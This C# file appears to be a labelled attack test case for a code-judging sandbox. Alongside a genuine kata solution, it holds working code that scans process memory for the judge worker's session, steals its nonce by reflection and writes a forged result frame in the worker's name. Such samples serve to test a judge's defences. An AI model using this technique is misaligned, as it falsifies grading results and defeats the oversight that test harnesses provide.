// attack: Finds the worker's session in memory, takes its nonce, and sends a wrong answer in its name.
// verdicts: WrongAnswer
// policy: Forbidden
using System.Reflection;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;
using System.Threading;

public sealed class Answer : ICircularBinarySwaps
{
    public int MinSwaps(int[] nums)
    {
        // <attack>
        unsafe
        {
            var session = Type.GetType("Katas.Worker.WorkerSession, Katas.Worker")!;
            var ends = stackalloc int[2];
            _ = pipe2(ends, 0);
            nint here = 0;
            for (var slot = &here; slot < &here + 8192; slot++)
            {
                // A pipe reads memory without harm where there is none.
                nint type = 0;
                if (write(ends[1], *slot, 8) != 8 || read(ends[0], &type, 8) != 8 || type != session.TypeHandle.Value) continue;
                Send(Unsafe.AsRef<object>(slot), session);
                break;
            }
        }
        // </attack>
        return Fewest.Of(nums);
    }

    // <attack>
    private static void Send(object owner, Type session)
    {
        const BindingFlags Hidden = BindingFlags.Instance | BindingFlags.NonPublic;
        var nonce = (byte[])session.GetField("_nonce", Hidden)!.GetValue(owner)!;
        byte[] frame = [41, 0, 0, 0, 2, 16, 0, 0, 0, .. nonce, 3, 0, 0, 0, .. new byte[8], 0, 4, 0, 0, 0, 255, 255, 255, 127];
        _ = write(1, frame, frame.Length);
        Thread.Sleep(-1);
    }

    [DllImport("libc.so.6", SetLastError = true)]
    private static extern unsafe int pipe2(int* ends, int flags);

    [DllImport("libc.so.6", SetLastError = true)]
    private static extern nint write(int descriptor, nint bytes, nint count);

    [DllImport("libc.so.6", SetLastError = true)]
    private static extern unsafe nint read(int descriptor, nint* bytes, nint count);

    [DllImport("libc.so.6", SetLastError = true)]
    private static extern nint write(int descriptor, byte[] bytes, nint count);
    // </attack>
}
